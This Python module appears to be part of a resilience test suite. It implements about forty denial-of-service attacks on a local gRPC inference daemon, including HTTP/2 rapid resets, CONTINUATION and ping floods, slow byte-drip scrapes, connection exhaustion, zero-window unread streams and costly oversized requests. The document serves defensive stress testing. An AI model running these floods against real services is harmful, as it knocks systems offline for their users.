"""The attackers of `attacks.py`: clients that keep HTTP/2's rules and no others.

Owns: every attack, as calls in raw HTTP/2 (`h2`) or bytes on a socket, and the process that runs
it. gRPC's own client grants windows, ends its messages and keeps its streams few; these do not.
An attacker has one account's token, or none, comes from an address of its own (127.0.0.2), and
adapts: it spreads over connections where streams are limited, comes back where it is hung up on,
and shortens what is refused as too long. After a refusal it comes back at `RETRIES_PER_S`, so
that what is measured is what it holds or costs, and not how many refusals a core can fetch;
`refusals` is the attack that fetches them.
Does not know: the victims, the daemon's process, the verdict.
Fails: never by exception of the daemon's making; a lost connection is counted as an ending.
"""

from __future__ import annotations

import multiprocessing
import resource
import selectors
import socket
import struct
import sys
import time
from collections import Counter, deque
from collections.abc import Callable, Mapping
from dataclasses import dataclass, field
from multiprocessing.connection import Connection as Pipe
from pathlib import Path
from typing import Any

import h2.config
import h2.connection
import h2.events
import h2.exceptions
import h2.settings
import hpack
from load_generator import (
    CONTINUATION,
    DATA,
    HEADERS,
    PING,
    PREFACE,
    PRIORITY,
    SETTINGS,
    WINDOW,
    frame,
    stream_request,
)

sys.path.insert(0, str(Path(__file__).parents[1] / "tests"))

from raw_http2 import RawConnection, framed

from sage_fed.v1 import budget_pb2, inference_pb2, types_pb2

SOURCE = "127.0.0.2"
"""Where attackers come from, so that a limit by address can tell them from the victims."""

RETRIES_PER_S = 100.0
READY_S = 60.0
ASK_S = 10.0
IN_PLACE_S = 10.0
"""How long an attack may take to build up before it is measured as far as it has come."""

_WIDE = 2**31 - 1
_CONNECT_S = 2.0
_MAX_CONNECTIONS = 64
_OUTBOX_BYTES = 2**20
_CANCEL = 8
_STATUS = b"grpc-status"


@dataclass(frozen=True)
class Target:
    """Where the daemon listens, and whose token the attacker has."""

    address: tuple[str, int]
    metrics: tuple[str, int]
    token: str


@dataclass
class Phase:
    """One attack under way: until when (`time.monotonic()`), and what came of its calls."""

    until: float
    in_place: Callable[[], None] = lambda: None
    """Called when all of it is there: from now on it is measured."""

    endings: Counter[str] = field(default_factory=Counter)

    @property
    def over(self) -> bool:
        """Whether its time is over."""
        return time.monotonic() >= self.until


class Http2(RawConnection):
    """A connection that never waits: unfinished messages, resets, and what could not be sent."""

    def __init__(self, target: Target, window: int) -> None:
        connected = socket.create_connection(target.address, _CONNECT_S, source_address=(SOURCE, 0))
        connected.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        config = h2.config.H2Configuration(
            client_side=True, header_encoding=None, validate_inbound_headers=False,
            validate_outbound_headers=False, normalize_outbound_headers=False,
        )  # fmt: skip
        super().__init__(connected, window, config, f"{target.address[0]}:{target.address[1]}")
        # Large frames spare this process what they spare the daemon.
        self.http2.update_settings({h2.settings.SettingCodes.MAX_FRAME_SIZE: 2**20})
        self.http2.increment_flow_control_window(_WIDE - 65535)
        self._outbox = bytearray()
        self._unsent: dict[int, tuple[memoryview, bool]] = {}
        self.live: set[int] = set()
        self.flush()
        # Its settings say how many streams it takes.
        self.receive()
        self.socket.setblocking(False)

    def fileno(self) -> int:
        """For a selector."""
        return self.socket.fileno()

    def close(self) -> None:
        """Hang up."""
        self.socket.close()

    @property
    def room(self) -> int:
        """How many more streams the daemon takes on this connection."""
        allowed = self.http2.remote_settings.max_concurrent_streams
        return max(int(allowed or _WIDE) - self.http2.open_outbound_streams, 0)

    @property
    def sending(self) -> bool:
        """Whether something could be sent now and was not."""
        return bool(self._outbox) or any(
            rest and self.http2.local_flow_control_window(stream) > 0
            for stream, (rest, _) in self._unsent.items()
        )

    def open(self, call: Call, token: str | None, message: bytes) -> int:
        """Begin a call; returns its stream."""
        stream = self.send_headers(call.path, token, call.headers)
        self.live.add(stream)
        body = memoryview(framed(message))
        whole = call.missing == 0
        self._unsent[stream] = (body if whole else body[: -call.missing], whole)
        return stream

    def reset(self, stream: int) -> None:
        """Give a stream up."""
        self._forget(stream)
        self.http2.reset_stream(stream, _CANCEL)

    def _forget(self, stream: int) -> None:
        self.live.discard(stream)
        self._unsent.pop(stream, None)

    def flush(self) -> None:
        """Send as much as the daemon's windows and the socket take now."""
        for stream, (unsent, whole) in list(self._unsent.items()):
            rest = unsent
            while len(self._outbox) < _OUTBOX_BYTES and rest:
                size = min(
                    self.http2.local_flow_control_window(stream),
                    self.http2.max_outbound_frame_size,
                    len(rest),
                )
                if size <= 0:
                    break
                self.http2.send_data(
                    stream, bytes(rest[:size]), end_stream=whole and size == len(rest)
                )
                rest = rest[size:]
                self._outbox += self.http2.data_to_send()
            if rest:
                self._unsent[stream] = (rest, whole)
            else:
                del self._unsent[stream]
        self._outbox += self.http2.data_to_send()
        if self._outbox:
            try:
                del self._outbox[: self.socket.send(self._outbox)]
            except BlockingIOError:
                return

    def receive(self) -> list[str]:
        """Take what has come; how calls ended: a gRPC status, or RESET."""
        try:
            received = self.socket.recv(2**20)
        except BlockingIOError:
            return []
        if not received:
            raise ConnectionResetError
        endings: list[str] = []
        for event in self.http2.receive_data(received):
            if isinstance(event, h2.events.ConnectionTerminated):
                raise ConnectionResetError
            if isinstance(event, (h2.events.ResponseReceived, h2.events.TrailersReceived)):
                status = dict(event.headers or ()).get(_STATUS)
                if status is not None and event.stream_id in self.live:
                    self._forget(event.stream_id)
                    endings.append(status.decode())
            elif isinstance(event, h2.events.StreamReset) and event.stream_id in self.live:
                self._forget(event.stream_id)
                endings.append("RESET")
        return endings


@dataclass(frozen=True)
class Call:
    """Calls of one method, a number of them under way at any time.

    Attributes:
        message: from the call's number to its request.
        token: whether it says who calls.
        window: what a stream grants the daemon for its reply.
        missing: bytes of the message that never come.
        reset_after_s: when the caller gives it up; None waits for its end.
        paced: whether it waits a moment after a refusal.
    """

    path: str
    message: Callable[[int], bytes]
    at_once: int
    token: bool = True
    window: int = _WIDE
    missing: int = 0
    reset_after_s: float | None = None
    paced: bool = True
    headers: tuple[tuple[str, str], ...] = ()


class Caller:
    """Keeps a `Call` under way until its phase is over."""

    def __init__(self, call: Call, target: Target, phase: Phase) -> None:
        self._call = call
        self._target = target
        self._phase = phase
        self._selector = selectors.DefaultSelector()
        self._connections: list[Http2] = []
        self._made = 0
        self._resets: deque[tuple[float, Http2, int]] = deque()
        self._pauses: deque[float] = deque()
        self._connect_at = 0.0

    def run(self) -> None:
        """Call until the time is over, then hang up."""
        built_up_by = time.monotonic() + IN_PLACE_S
        placed = False
        try:
            while not self._phase.over:
                self._top_up()
                self._take()
                if not placed and (self._in_place() or time.monotonic() > built_up_by):
                    placed = True
                    self._phase.in_place()
        finally:
            for connection in self._connections:
                connection.close()
            self._selector.close()

    def _in_place(self) -> bool:
        missing = self._call.at_once - sum(len(c.live) for c in self._connections)
        full = missing <= len(self._pauses) or self._made >= self._call.at_once
        return full and not any(connection.sending for connection in self._connections)

    def _top_up(self) -> None:
        now = time.monotonic()
        while self._resets and self._resets[0][0] <= now:
            _, connection, stream = self._resets.popleft()
            if stream in connection.live:
                connection.reset(stream)
                self._phase.endings["GIVEN UP"] += 1
        while self._pauses and self._pauses[0] <= now:
            self._pauses.popleft()
        live = sum(len(connection.live) for connection in self._connections)
        wanted = self._call.at_once - live - len(self._pauses)
        for connection in self._connections:
            for _ in range(min(wanted, connection.room)):
                self._open(connection, now)
                wanted -= 1
        if wanted > 0 and len(self._connections) < _MAX_CONNECTIONS and now >= self._connect_at:
            self._connect(now)
        for connection in list(self._connections):
            self._guarded(connection, connection.flush)

    def _open(self, connection: Http2, now: float) -> None:
        token = self._target.token if self._call.token else None
        stream = connection.open(self._call, token, self._call.message(self._made))
        self._made += 1
        if self._call.reset_after_s is not None:
            self._resets.append((now + self._call.reset_after_s, connection, stream))

    def _connect(self, now: float) -> None:
        try:
            connection = Http2(self._target, self._call.window)
        except OSError:
            self._phase.endings["NOT CONNECTED"] += 1
            self._connect_at = now + 10 / RETRIES_PER_S
            return
        self._connections.append(connection)
        self._selector.register(connection, selectors.EVENT_READ, connection)

    def _take(self) -> None:
        waiting = self._call.reset_after_s is not None or any(c.sending for c in self._connections)
        for key, _ in self._selector.select(0.001 if waiting else 0.01):
            connection = key.data
            self._guarded(connection, lambda c=connection: self._count(c.receive()))

    def _guarded(self, connection: Http2, act: Callable[[], None]) -> None:
        """Act; a connection that the daemon closed is gone, and its calls with it."""
        try:
            act()
        except (OSError, h2.exceptions.ProtocolError) as error:
            ending = "HUNG UP" if isinstance(error, OSError) else repr(error)
            self._phase.endings[ending] += max(len(connection.live), 1)
            self._pause(max(len(connection.live), 1))
            connection.live.clear()
            if connection in self._connections:
                self._connections.remove(connection)
                self._selector.unregister(connection)
            connection.close()

    def _count(self, endings: list[str]) -> None:
        self._phase.endings.update(endings)
        if self._call.paced:
            self._pause(sum(ending != "0" for ending in endings))

    def _pause(self, refused: int) -> None:
        for _ in range(refused):
            begun = self._pauses[-1] if self._pauses else time.monotonic()
            self._pauses.append(begun + 1 / RETRIES_PER_S)


Run = Callable[[Target, Phase], None]


@dataclass(frozen=True)
class Attack:
    """One attack: what it does, and what its account has to have done before."""

    title: str
    run: Run
    jobs_before: int = 0
    """Jobs of one token, for calls that read what an account has done."""

    paid: Run | None = None
    """The work that it pays for, without what makes it an attack: the device is shared, too."""


def calling(call: Call) -> Run:
    """Keep these calls under way."""
    return lambda target, phase: Caller(call, target, phase).run()


def fixed(message: bytes) -> Callable[[int], bytes]:
    """The same request for every call."""
    return lambda _: message


def ask(target: Target, call: Call) -> str:
    """Make one call, and say how it ended."""
    connection = Http2(target, call.window)
    with selectors.DefaultSelector() as selector:
        selector.register(connection, selectors.EVENT_READ)
        connection.open(call, target.token, call.message(0))
        endings: list[str] = []
        until = time.monotonic() + ASK_S
        while not endings and time.monotonic() < until:
            connection.flush()
            if selector.select(0.01):
                endings = connection.receive()
    connection.close()
    return endings[0] if endings else "NOTHING"


def streamed(max_new_tokens: int, **sampling: Any) -> bytes:  # noqa: ANN401 - protobuf's fields
    """A tactical job of exactly so many tokens, as it travels."""
    return stream_request("count", max_new_tokens, **sampling).SerializeToString()


def big_result(number: int) -> bytes:
    """A job whose result is as large as results get, and is kept for its request id."""
    wanted = types_pb2.SamplingParams(max_new_tokens=950, ignore_eos=True, top_logprobs=20)
    job = types_pb2.JobSpec(
        text="count",
        tier=types_pb2.TIER_TACTICAL,
        client_request_id=f"{time.time_ns()}-{number}",
        sampling=wanted,
    )
    return inference_pb2.GenerateRequest(job=job).SerializeToString()


def prose(chars: int) -> str:
    """A text of so many characters."""
    return (_PROSE * (chars // len(_PROSE) + 1))[:chars]


def count_request(chars: int) -> bytes:
    """The request to count a text of so many characters."""
    return inference_pb2.CountTokensRequest(text=prose(chars)).SerializeToString()


def quote_request(chars: int) -> bytes:
    """The request to quote a job of so many characters."""
    job = types_pb2.JobSpec(text=prose(chars), tier=types_pb2.TIER_TACTICAL)
    return inference_pb2.QuoteRequest(job=job).SerializeToString()


def ids_request(num_ids: int) -> bytes:
    """The request to quote a job of so many token ids."""
    ids = types_pb2.TokenIds(ids=[n % 400 for n in range(num_ids)])
    job = types_pb2.JobSpec(token_ids=ids, tier=types_pb2.TIER_TACTICAL)
    return inference_pb2.QuoteRequest(job=job).SerializeToString()


def emoji_request(chars: int) -> bytes:
    """The request to count characters that are four tokens each."""
    return inference_pb2.CountTokensRequest(text="\N{GRINNING FACE}" * chars).SerializeToString()


def turns_request(number: int) -> bytes:
    """The request to count a conversation of many turns, in an order of roles of its own."""
    roles = ("system", "user", "assistant")
    turns = [
        types_pb2.ChatMessage(
            role=roles[number // 3**at % 3 if at < 12 else at % 3], content="abcd"
        )
        for at in range(255)
    ]
    chat = types_pb2.ChatMessages(messages=turns)
    return inference_pb2.CountTokensRequest(chat=chat).SerializeToString()


def empty_messages(num_bytes: int) -> bytes:
    """A conversation of empty messages, two bytes each, as the request to count it.

    By hand: as objects they would take this process seconds and a gigabyte.
    """
    body = b"\x0a\x00" * (num_bytes // 2)
    length, prefix = len(body), bytearray(b"\x12")
    while length > 127:
        prefix.append(length & 127 | 128)
        length >>= 7
    return bytes((*prefix, length)) + body


def as_long_as_taken(path: str, request: Callable[[int], bytes], at_once: int) -> Run:
    """Calls with a text each, of the most characters that the daemon takes."""

    def run(target: Target, phase: Phase) -> None:
        chars = 200_000
        while chars > 1 and ask(target, Call(path, fixed(request(chars)), 1)) != "0":
            chars //= 2
        phase.endings[f"TEXTS OF {chars}"] = 1
        Caller(Call(path, fixed(request(chars)), at_once), target, phase).run()

    return run


def drip(target: Target, phase: Phase) -> None:
    """64 scrapes that send a byte every 3 s, and begin anew where they are hung up on."""
    request = b"GET /metrics HTTP/1.1\r\nHost: x\r\nX-Filler: " + b"x" * 4096
    dripping: dict[socket.socket, tuple[int, float]] = {}
    connect_at = 0.0
    while not phase.over:
        now = time.monotonic()
        if now >= connect_at:
            connect_at = now + 0.2
            for _ in range(64 - len(dripping)):
                if (one := _connected(target.metrics, phase)) is not None:
                    dripping[one] = (0, now)
            phase.in_place()
        for one, (sent, due) in list(dripping.items()):
            if due <= now:
                dripping[one] = (sent + 1, now + 3.0)
            if _hung_up(one, request[sent : sent + 1] if due <= now else b""):
                phase.endings["HUNG UP"] += 1
                one.close()
                del dripping[one]
        time.sleep(0.02)
    for one in dripping:
        one.close()


def connect(target: Target, phase: Phase) -> None:
    """4,000 connections without a call: every second greets, and none says any more.

    For those that are hung up on others come, at `RETRIES_PER_S`.
    """
    held: set[socket.socket] = set()
    selector = selectors.DefaultSelector()
    made, began_s = 0, time.monotonic()
    while not phase.over:
        elapsed_s = time.monotonic() - began_s
        allowed = 4000 + int(elapsed_s * RETRIES_PER_S) - made
        wanted = min(4000 - len(held), allowed, 20)
        for _ in range(wanted):
            made += 1
            one = _connected(target.address, phase)
            if one is None:
                break
            if _hung_up(one, _OPENING if made % 2 else b""):
                phase.endings["HUNG UP"] += 1
                one.close()
                continue
            held.add(one)
            selector.register(one, selectors.EVENT_READ, one)
        for key, _ in selector.select(0.0 if wanted == 20 else 0.01):
            if _hung_up(key.data, b""):
                phase.endings["HUNG UP"] += 1
                selector.unregister(key.data)
                held.discard(key.data)
                key.data.close()
        if wanted < 20 or elapsed_s > IN_PLACE_S:
            phase.in_place()
    phase.endings["HELD AT THE END"] = len(held)
    for one in held:
        one.close()
    selector.close()


def _connected(address: tuple[str, int], phase: Phase) -> socket.socket | None:
    try:
        one = socket.create_connection(address, 0.2, source_address=(SOURCE, 0))
    except OSError:
        phase.endings["NOT CONNECTED"] += 1
        return None
    phase.endings["CONNECTED"] += 1
    one.setblocking(False)
    return one


def _hung_up(one: socket.socket, send: bytes) -> bool:
    """Send, and see whether the daemon has closed the connection."""
    try:
        if send:
            one.send(send)
        while one.recv(4096):
            pass
    except BlockingIOError:
        return False
    except OSError:
        return True
    return True


def spray(frames: bytes, per_s: float, opening: Callable[[Target], bytes] = lambda _: b"") -> Run:
    """Frames that cost the daemon something, on a connection that begins with `opening`."""

    def run(target: Target, phase: Phase) -> None:
        one: socket.socket | None = None
        sent, begun = 0, time.monotonic()
        phase.in_place()
        while not phase.over:
            if one is None:
                one = _connected(target.address, phase)
                if one is None or _hung_up(one, _OPENING + opening(target)):
                    one = None
                    time.sleep(0.1)
                    continue
            due = int((time.monotonic() - begun) * per_s) - sent
            sent += max(due, 0)
            if due <= 0:
                time.sleep(0.001)
            elif _hung_up(one, frames * min(due, 1000)):
                phase.endings["HUNG UP"] += 1
                one.close()
                one = None
        phase.endings["SENT"] = sent
        if one is not None:
            one.close()

    return run


def open_streams(
    path: str, streams: int, *, message: bytes | None = None, token: bool = False, flags: int = 4
) -> Callable[[Target], bytes]:
    """Calls that are begun; with a message they are complete."""

    def opening(target: Target) -> bytes:
        headers = [
            (":method", "POST"), (":scheme", "http"), (":path", path), (":authority", "x"),
            ("content-type", "application/grpc"), ("te", "trailers"),
        ]  # fmt: skip
        if token:
            headers.append(("authorization", f"Bearer {target.token}"))
        packer = hpack.Encoder()
        out = bytearray()
        for stream in range(1, 2 * streams, 2):
            out += frame(HEADERS, flags, stream, packer.encode(headers))
            if message is not None:
                out += frame(DATA, 1, stream, framed(message))
        return bytes(out)

    return opening


def settings_of(**values: int) -> bytes:
    """A frame of settings by their names in `h2`."""
    codes = h2.settings.SettingCodes
    return frame(
        SETTINGS,
        0,
        0,
        b"".join(struct.pack(">HI", codes[name], value) for name, value in values.items()),
    )


def replay(target: Target, phase: Phase) -> None:
    """A large result that was paid for once, fetched again and again, 32 at a time."""
    request = big_result(0)
    phase.endings[f"PAID: {ask(target, Call(_WHOLE, fixed(request), 1))}"] = 1
    Caller(Call(_WHOLE, fixed(request), 32), target, phase).run()


_PROSE = "the quick brown fox 12345 "
_OPENING = PREFACE + frame(SETTINGS, 0, 0, b"")
_INFERENCE = "/sage_fed.v1.InferenceService/"
_BUDGET = "/sage_fed.v1.BudgetService/"
_MODEL = "/sage_fed.v1.ModelService/"
_HEALTH = "/grpc.health.v1.Health/"
_REFLECTION = "/grpc.reflection.v1.ServerReflection/ServerReflectionInfo"
_PAGE = fixed(budget_pb2.ListEntriesRequest(page_size=1000).SerializeToString())
_STREAM, _WHOLE = f"{_INFERENCE}GenerateStream", f"{_INFERENCE}Generate"
_COUNT, _QUOTE = f"{_INFERENCE}CountTokens", f"{_INFERENCE}Quote"

ATTACKS: Mapping[str, Attack] = {
    "unread-streams": Attack(
        "600 streams of one token that nobody reads",
        calling(Call(_STREAM, fixed(streamed(1)), 600, window=0)),
    ),
    "unread-pages": Attack(
        "2,000 ListEntries of 1,000 entries that nobody reads",
        calling(Call(f"{_BUDGET}ListEntries", _PAGE, 2000, window=0)),
        jobs_before=500,
    ),
    "half-messages": Attack(
        "200 messages of 4 MiB without a token and without their last byte",
        calling(Call(_WHOLE, fixed(bytes(4 * 2**20 - 16)), 200, token=False, missing=1)),
    ),
    "half-calls": Attack(
        "20,000 calls without a token that never send their message",
        calling(Call(_WHOLE, fixed(bytes(64)), 20_000, token=False, missing=69)),
    ),
    "connections": Attack("4,000 connections without a call", connect),
    "page-flood": Attack(
        "900 ListEntries of 1,000 entries at once",
        calling(Call(f"{_BUDGET}ListEntries", _PAGE, 900)),
        jobs_before=500,
    ),
    "count-flood": Attack(
        "600 CountTokens at once, of the longest text that is taken",
        as_long_as_taken(_COUNT, count_request, 600),
    ),
    "dripping-scrapes": Attack("64 scrapes that send a byte every 3 s", drip),
    "reset-calls": Attack(
        "16 calls at once that are given up after 12 ms",
        calling(Call(_STREAM, fixed(streamed(64)), 16, reset_after_s=0.012)),
    ),
    "big-results": Attack(
        "32 results at once of 950 tokens with 20 log-probabilities and a request id",
        calling(Call(_WHOLE, big_result, 32)),
        paid=calling(Call(_STREAM, fixed(streamed(950)), 32)),
    ),
    "empty-messages": Attack(
        "4 conversations at once of 2 million empty messages",
        calling(Call(_COUNT, fixed(empty_messages(4 * 2**20 - 16)), 4, paced=False)),
    ),
}
"""The attacks of the issue's section A, in its order."""

FURTHER: Mapping[str, Attack] = {
    "refusals": Attack(
        "64 refused jobs at once, as fast as they are refused",
        calling(Call(_STREAM, fixed(b""), 64, paced=False)),
    ),
    "strangers": Attack(
        "64 calls at once without a token, as fast as they are refused",
        calling(Call(_STREAM, fixed(b""), 64, token=False, paced=False)),
    ),
    "quote-flood": Attack(
        "600 quotes at once, of the longest text that is taken",
        as_long_as_taken(_QUOTE, quote_request, 600),
    ),
    "budget-flood": Attack(
        "900 GetBudget at once", calling(Call(f"{_BUDGET}GetBudget", fixed(b""), 900))
    ),
    "status-flood": Attack(
        "900 GetStatus at once", calling(Call(f"{_MODEL}GetStatus", fixed(b""), 900))
    ),
    "small-counts": Attack(
        "600 CountTokens at once of 4,000 characters",
        calling(Call(_COUNT, fixed(count_request(4000)), 600)),
    ),
    "watchers": Attack(
        "20,000 streams of health without a token",
        calling(Call(f"{_HEALTH}Watch", fixed(b""), 20_000, token=False)),
    ),
    "health-flood": Attack(
        "900 health checks at once without a token",
        calling(Call(f"{_HEALTH}Check", fixed(b""), 900, token=False)),
    ),
    "reflections": Attack(
        "20,000 streams of reflection",
        calling(Call(_REFLECTION, fixed(b""), 20_000, missing=5)),
    ),
    "large-headers": Attack(
        "200 calls at once with 15 KB of headers",
        calling(
            Call(_WHOLE, fixed(b""), 200, token=False, paced=False, headers=(("x", "y" * 15_000),))
        ),
    ),
    "many-headers": Attack(
        "200 calls at once with 300 headers",
        calling(
            Call(
                _WHOLE, fixed(b""), 200, token=False, paced=False,
                headers=tuple((f"x{n}", "y") for n in range(300)),
            )
        ),
    ),
    "rapid-resets": Attack(
        "1,000 calls at once without a token that are given up at once",
        calling(Call(_STREAM, fixed(b""), 1000, token=False, reset_after_s=0.0)),
    ),
    "pings": Attack("100,000 pings a second", spray(frame(PING, 0, 0, bytes(8)), 100_000.0)),
    "settings": Attack("100,000 settings a second", spray(frame(SETTINGS, 0, 0, b""), 100_000.0)),
    "settings-flaps": Attack(
        "2,000 changes a second of every stream's window, of as many streams as are allowed",
        spray(
            settings_of(INITIAL_WINDOW_SIZE=0) + settings_of(INITIAL_WINDOW_SIZE=1),
            1000.0,
            open_streams(f"{_HEALTH}Watch", 1024, message=b""),
        ),
    ),
    "table-flaps": Attack(
        "20,000 changes a second of the size of the header table",
        spray(
            settings_of(HEADER_TABLE_SIZE=0) + settings_of(HEADER_TABLE_SIZE=65536), 10_000.0
        ),
    ),
    "empty-data": Attack(
        "100,000 empty frames a second of a call without a token",
        spray(frame(DATA, 0, 1, b""), 100_000.0, open_streams(_WHOLE, 1)),
    ),
    "priorities": Attack(
        "100,000 priorities a second",
        spray(frame(PRIORITY, 0, 1, bytes(5)), 100_000.0, open_streams(_WHOLE, 1)),
    ),
    "continuations": Attack(
        "headers that never end, without a token",
        spray(frame(CONTINUATION, 0, 1, b"\0\1x\1y" * 1000), 2000.0,
              open_streams(_WHOLE, 1, flags=0)),
    ),
    "one-byte-reads": Attack(
        "64 ListEntries of 1,000 entries that are read by the byte",
        spray(
            b"".join(frame(WINDOW, 0, n, struct.pack(">I", 1)) for n in range(1, 128, 2)),
            500.0,
            lambda target: settings_of(INITIAL_WINDOW_SIZE=0)
            + open_streams(f"{_BUDGET}ListEntries", 64, message=_PAGE(0), token=True)(target),
        ),
        jobs_before=500,
    ),
    "replays": Attack("a large result that was paid for once, fetched 32 at a time", replay),
    "token-ids": Attack(
        "64 quotes at once of the most token ids that a message takes",
        calling(Call(_QUOTE, fixed(ids_request(200_000)), 64)),
    ),
    "emoji": Attack(
        "64 CountTokens at once of 200,000 emoji",
        calling(Call(_COUNT, fixed(emoji_request(200_000)), 64)),
    ),
    "many-turns": Attack(
        "64 CountTokens at once of 255 short messages",
        calling(Call(_COUNT, turns_request, 64)),
    ),
    "short-deadlines": Attack(
        "64 jobs at once with a deadline of 1 ms",
        calling(
            Call(_STREAM, fixed(streamed(64)), 64, paced=False,
                 headers=(("grpc-timeout", "1m"),))
        ),
    ),
    "long-stops": Attack(
        "64 streams at once with 16 stop strings of 128 characters",
        calling(
            Call(_STREAM, fixed(streamed(900, stop=[f"{n:x}" * 128 for n in range(16)])), 64)
        ),
    ),
    "costly-sampling": Attack(
        "64 streams at once with every filter and 20 log-probabilities",
        calling(
            Call(
                _STREAM,
                fixed(
                    streamed(
                        900, temperature=1.5, top_p=0.99, top_k=400, min_p=0.001,
                        repetition_penalty=1.2, top_logprobs=20,
                    )
                ),
                64,
            )
        ),
    ),
    "paid-streams": Attack(
        "32 streams at once of 950 tokens, as they are paid for",
        calling(Call(_STREAM, fixed(streamed(950)), 32)),
    ),
    "long-streams": Attack(
        "128 streams at once of 900 tokens", calling(Call(_STREAM, fixed(streamed(900)), 128))
    ),
}  # fmt: skip
"""Attacks of the same kind beyond the issue's."""


class Attacker:
    """The attacker's process: it attacks, or burns as much CPU as an attack did, when told to."""

    def __init__(self, name: str, target: Target) -> None:
        context = multiprocessing.get_context("spawn")
        self._pipe, theirs = context.Pipe()
        self._process = context.Process(target=_serve, args=(name, target, theirs), daemon=True)
        self._process.start()
        theirs.close()
        self._await(READY_S)

    def begin(self, seconds: float, *, paid: bool = False) -> None:
        """Attack; returns when the attack is in place, and it lasts so long from then on.

        `paid` does what it pays for, and no more.
        """
        self._pipe.send(("paid" if paid else "attack", seconds))
        self._await(IN_PLACE_S + 5)

    def end(self) -> tuple[dict[str, int], float]:
        """Wait for the attack's end; how its calls ended, and how many cores it burned."""
        answer: tuple[dict[str, int], float] = self._await(60.0)
        return answer

    def burn(self, seconds: float, cores: float) -> None:
        """Burn so many cores, and return at once."""
        self._pipe.send(("burn", seconds, cores))

    def burned(self) -> float:
        """Wait until that is done; the cores that were burned, fewer where there were none."""
        cores: float = self._await(60.0)
        return cores

    def close(self) -> None:
        """End the process."""
        self._process.terminate()
        self._process.join(10.0)

    def _await(self, seconds: float) -> Any:  # noqa: ANN401 - what the process says
        if not self._pipe.poll(seconds):
            raise RuntimeError("the attacker says nothing")
        return self._pipe.recv()


def _serve(name: str, target: Target, pipe: Pipe) -> None:
    most = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
    attack = (ATTACKS | FURTHER)[name]
    done: Counter[str] = Counter()
    while done["0"] < attack.jobs_before:
        phase = Phase(time.monotonic() + 0.5, endings=done)
        Caller(Call(_STREAM, fixed(streamed(1)), 32), target, phase).run()
    pipe.send("ready")
    while True:
        match pipe.recv():
            case ("attack", seconds):
                _attack(attack.run, target, pipe, seconds)
            case ("paid", seconds):
                assert attack.paid is not None
                _attack(attack.paid, target, pipe, seconds)
            case ("burn", seconds, cores):
                pipe.send(burn(seconds, cores))


def _attack(run: Run, target: Target, pipe: Pipe, seconds: float) -> None:
    phase = Phase(time.monotonic() + IN_PLACE_S + seconds)
    begun: list[tuple[float, float]] = []

    def in_place() -> None:
        if not begun:
            begun.append((time.monotonic(), time.process_time()))
            phase.until = time.monotonic() + seconds
            pipe.send("in place")

    phase.in_place = in_place
    run(target, phase)
    in_place()
    began_s, began_cpu_s = begun[0]
    cores = (time.process_time() - began_cpu_s) / max(time.monotonic() - began_s, seconds)
    pipe.send((dict(phase.endings), cores))


def burn(seconds: float, cores: float) -> float:
    """Burn so many cores, of at most one, for so long; how many the machine had for it."""
    began_s, began_cpu_s = time.monotonic(), time.process_time()
    while (elapsed_s := time.monotonic() - began_s) < seconds:
        if time.process_time() - began_cpu_s < cores * elapsed_s:
            sum(range(2000))
        else:
            time.sleep(0.001)
    return (time.process_time() - began_cpu_s) / elapsed_s
